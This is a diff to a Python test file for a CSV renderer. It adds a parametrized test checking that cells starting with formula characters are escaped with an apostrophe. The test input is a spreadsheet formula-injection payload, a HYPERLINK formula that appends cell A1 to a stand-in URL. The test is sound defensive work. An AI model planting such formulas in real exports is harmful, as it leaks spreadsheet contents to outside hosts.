@@ -4,8 +4,10 @@ import csv
 import io
 from typing import TYPE_CHECKING
 
+import pytest
+
 from inquit.render.csv import COLUMNS, header, rows
-from inquit.types import Extraction, Quote, QuoteKind, Span
+from inquit.types import Extraction, Quote, QuoteKind, Span, Speaker, SpeakerType
 
 if TYPE_CHECKING:
     from inquit.types import Document
@@ -54,6 +56,27 @@ def test_a_lone_carriage_return_stays_in_its_cell() -> None:
     quote = Quote(QuoteKind.DIRECT, (Span(0, len(words), words),), verbatim=(Span(0, len(words), words),))
     table = read(header() + rows(Extraction("x", (quote,))))
     assert [(row["content"], row["verbatim"]) for row in table] == [(words, words)]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_cell_is_a_formula(start: str) -> None:
+    """Words from an article, or an id, never begin as what a spreadsheet would compute."""
+    words = f'{start}HYPERLINK("https://example.org/?"&A1,"more")'
+    span = Span(0, len(words), words)
+    quote = Quote(
+        QuoteKind.MIXED,
+        (span,),
+        verbatim=(span,),
+        cue=span,
+        speaker_mention=span,
+        channel=span,
+        speaker_id="s",
+    )
+    attack = Extraction(words, (quote,), (Speaker("s", words, SpeakerType.PERSON),))
+    (row,) = read(header() + rows(attack))
+    guarded = [name for name, cell in row.items() if cell == f"'{words}"]
+    assert len(guarded) == 7
+    assert not [name for name, cell in row.items() if cell.startswith(start)]
 
 
 def test_columns_are_pinned() -> None:
